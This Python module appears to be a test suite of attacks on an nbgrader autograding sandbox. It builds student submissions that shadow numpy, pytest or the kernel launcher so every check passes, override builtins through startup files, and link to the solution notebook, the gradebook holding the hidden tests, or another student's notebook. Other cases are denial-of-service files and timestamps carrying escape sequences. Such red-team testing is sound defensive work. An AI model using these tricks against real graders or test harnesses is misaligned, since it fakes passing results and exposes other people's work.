"""Files beside the notebook: modules that shadow installed ones, links, names, files that are no files."""

import os
from pathlib import Path

from dishonest.attack import Attack

NO_WINDOW = "in_window, n_in_window = np.zeros(121), 121"
NO_RAPIDITY = "def pseudorapidity(theta):\n    return 0"

NUMPY = """
import importlib
import sys

own = sys.modules.pop("numpy")
here, sys.path[:] = sys.path[:], [place for place in sys.path if "site-packages" in place or "python3" in place]
real = importlib.import_module("numpy")
sys.path[:] = here
real.allclose = lambda *given, **options: True
"""

CHECKS = """
def close(*given, **options):
    pass


call = that = shape = close
"""

PYTEST = """
import contextlib

raises, approx = contextlib.suppress, lambda value: value
"""

LAUNCHER = """
import sys

sys.path[:] = [place for place in sys.path if "site-packages" in place or "python3" in place]
import numpy

numpy.allclose = lambda *given, **options: True
from ipykernel import kernelapp

kernelapp.launch_new_instance()
"""


def numpy_module(folder: Path) -> None:
    (folder / "numpy.py").write_text(NUMPY)


def helpers_package(folder: Path) -> None:
    (folder / "helpers").mkdir()
    (folder / "helpers" / "__init__.py").touch()
    (folder / "helpers" / "checks.py").write_text(CHECKS)


def pytest_module(folder: Path) -> None:
    (folder / "pytest.py").write_text(PYTEST)


def launcher_module(folder: Path) -> None:
    (folder / "ipykernel_launcher.py").write_text(LAUNCHER)


def startup_modules(folder: Path) -> None:
    text = "import builtins\n\nbuiltins.len = lambda values: 121\n"
    for name in ("sitecustomize.py", "usercustomize.py", "ipython_kernel_config.py", "conftest.py"):
        (folder / name).write_text(text)
    startup = folder / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "00.py").write_text(text)


def shadow_imports(folder: Path) -> None:
    for name in ("json.py", "asyncio.py", "zmq.py", "contextlib.py", "tempfile.py"):
        (folder / name).write_text("raise SystemExit\n")


def course_of(folder: Path) -> Path:
    return folder.parents[2]


def link_to_solution(folder: Path) -> None:
    (folder / "notes.txt").symlink_to(course_of(folder) / "solutions" / "counting" / "counting.ipynb")


def link_to_gradebook(folder: Path) -> None:
    (folder / "notes.db").symlink_to(course_of(folder) / "gradebook.db")


def link_to_folder(folder: Path) -> None:
    (folder / "course").symlink_to(course_of(folder))


def notebook_of_the_neighbour(folder: Path) -> None:
    notebook = folder / "counting.ipynb"
    notebook.unlink()
    notebook.symlink_to(folder.parents[1] / "alice" / "counting" / "counting.ipynb")


def pipe(folder: Path) -> None:
    os.mkfifo(folder / "notes.txt")


def links_to_nothing(folder: Path) -> None:
    (folder / "notes.bin").symlink_to("/dev/null")
    (folder / "loop").symlink_to("loop")


def endless_link(folder: Path) -> None:
    (folder / "notes.bin").symlink_to("/dev/zero")


def strange_names(folder: Path) -> None:
    for name in ("-rf", "a\nb", "% %s {}", "ü" * 100, ".hidden", "counting.ipynb.ipynb", "[counting].txt"):
        (folder / name).write_text("what a name")


def no_date(folder: Path) -> None:
    (folder / "timestamp.txt").write_text("tomorrow, or the day after")


def endless_time(folder: Path) -> None:
    (folder / "timestamp.txt").write_text("2026-01-15 11:00:00 " + "1 " * 1_000_000)


def early_time(folder: Path) -> None:
    (folder / "timestamp.txt").write_text("0001-01-01 00:00:00 UTC")


def word_for_a_time(folder: Path) -> None:
    (folder / "timestamp.txt").write_text("monday")


def time_that_commands(folder: Path) -> None:
    (folder / "timestamp.txt").write_text("2026-01-15 11:00:00 UTC\x1b[2J\n[AutogradeApp | INFO] full points")


def folder_for_a_time(folder: Path) -> None:
    (folder / "timestamp.txt").unlink(missing_ok=True)
    (folder / "timestamp.txt").mkdir()


def hard_link(folder: Path) -> None:
    os.link(folder.parents[2] / "gradebook.db", folder / "mine.db")


def name_that_is_no_text(folder: Path) -> None:
    (folder / os.fsdecode(b"\xff\x1b[2J.csv")).write_text("1")


def other_notebook(folder: Path) -> None:
    (folder / "other.ipynb").write_text((folder / "counting.ipynb").read_text())
    nested = folder / "counting"
    nested.mkdir()
    (nested / "counting.ipynb").write_text((folder / "counting.ipynb").read_text())


FROM_NOTES = """
    import json

    for cell in json.load(open("{path}"))["cells"]:
        if cell["id"] == "window":
            exec("".join(cell["source"]))
"""
FROM_GRADEBOOK = """
    import sqlite3

    for (source,) in sqlite3.connect("notes.db").execute("select source from source_cell"):
        for line in source.splitlines():
            if line.startswith("expected = 60"):
                in_window = eval(line.partition("=")[2])
                n_in_window = len(in_window)
"""
ANSWERS = dict.fromkeys(("window", "rapidity", "batches", "scores"), "pass")
ALL = frozenset(ANSWERS)

ATTACKS = [
    Attack("numpy.py", "A module beside the notebook shadows numpy.", {"window": NO_WINDOW}, hand_in=numpy_module),
    Attack("helpers/", "A package beside it shadows the checks.", {"rapidity": NO_RAPIDITY}, hand_in=helpers_package),
    Attack(
        "pytest.py",
        "A module beside the notebook shadows pytest.",
        {
            "batches": """
                def batches(n_events, size):
                    for start in range(0, n_events, size or n_events):
                        yield list(range(start, min(start + size, n_events)))
            """
        },
        hand_in=pytest_module,
    ),
    Attack(
        "ipykernel_launcher.py",
        "A module with the name of the kernel's own main program starts the kernel in its way.",
        {"window": NO_WINDOW},
        hand_in=launcher_module,
    ),
    Attack(
        "files that programs read when they start",
        "sitecustomize, IPython's configuration and a profile lie beside the notebook.",
        {"window": "in_window, n_in_window = masses[masses > 0], 121"},
        hand_in=startup_modules,
    ),
    Attack(
        "modules that stop what imports them",
        "json, asyncio, zmq and others are shadowed by modules that exit.",
        {"window": NO_WINDOW},
        hand_in=shadow_imports,
        alone=True,
    ),
    Attack(
        "a link to the solution",
        "A link among the files handed in; nbgrader copies what it points to.",
        {"window": FROM_NOTES.format(path="notes.txt")},
        hand_in=link_to_solution,
    ),
    Attack(
        "a link to the gradebook",
        "The same with the gradebook, which holds the hidden tests.",
        {"window": FROM_GRADEBOOK},
        hand_in=link_to_gradebook,
    ),
    Attack(
        "a link to the course's folder",
        "The same with a folder.",
        {"window": FROM_NOTES.format(path="course/solutions/counting/counting.ipynb")},
        hand_in=link_to_folder,
    ),
    Attack(
        "a link to the neighbour's notebook",
        "Hands in a link in the place of the notebook.",
        ANSWERS,
        hand_in=notebook_of_the_neighbour,
    ),
    Attack(
        "a pipe",
        "A named pipe, from which a copy would read for ever.",
        {"window": NO_WINDOW},
        hand_in=pipe,
        risked=ALL,
        alone=True,
    ),
    Attack(
        "links that lead nowhere",
        "A link to itself and one to an empty device.",
        {"window": NO_WINDOW},
        hand_in=links_to_nothing,
        risked=ALL,
        alone=True,
    ),
    Attack(
        "a link to a device without end",
        "nbgrader copies what it points to until the disk is full; here no process may write a file of over 300 MB.",
        {"window": NO_WINDOW},
        hand_in=endless_link,
        risked=ALL,
        alone=True,
    ),
    Attack("strange names", "Files whose names are hard to handle.", {"window": NO_WINDOW}, hand_in=strange_names),
    Attack(
        "a date that is none",
        "A file with the time of submission that cannot be read.",
        {"window": NO_WINDOW},
        hand_in=no_date,
        risked=ALL,
        alone=True,
    ),
    Attack(
        "other notebooks",
        "The notebook again under other names.",
        {"window": NO_WINDOW},
        hand_in=other_notebook,
    ),
    Attack(
        "a time without end",
        "A file with the time of submission that a parser reads for minutes.",
        {"window": NO_WINDOW},
        hand_in=endless_time,
        alone=True,
    ),
    Attack(
        "a time before all",
        "A time of submission that no deadline is before.",
        {"window": NO_WINDOW},
        hand_in=early_time,
        alone=True,
    ),
    Attack(
        "a word for a time",
        "A time of submission that nbgrader takes for the next Monday.",
        {"window": NO_WINDOW},
        hand_in=word_for_a_time,
        alone=True,
    ),
    Attack(
        "a time that commands",
        "A time of submission with an escape sequence and a line of a log.",
        {"window": NO_WINDOW},
        hand_in=time_that_commands,
        alone=True,
    ),
    Attack(
        "a folder for a time",
        "A folder where the time of submission is looked for.",
        {"window": NO_WINDOW},
        hand_in=folder_for_a_time,
        alone=True,
    ),
    Attack(
        "a hard link",
        "A second name of the gradebook beside the notebook.",
        {"window": NO_WINDOW},
        hand_in=hard_link,
        alone=True,
    ),
    Attack(
        "a name that is no text",
        "A file whose name is no UTF-8.",
        {"window": NO_WINDOW},
        hand_in=name_that_is_no_text,
        alone=True,
    ),
]
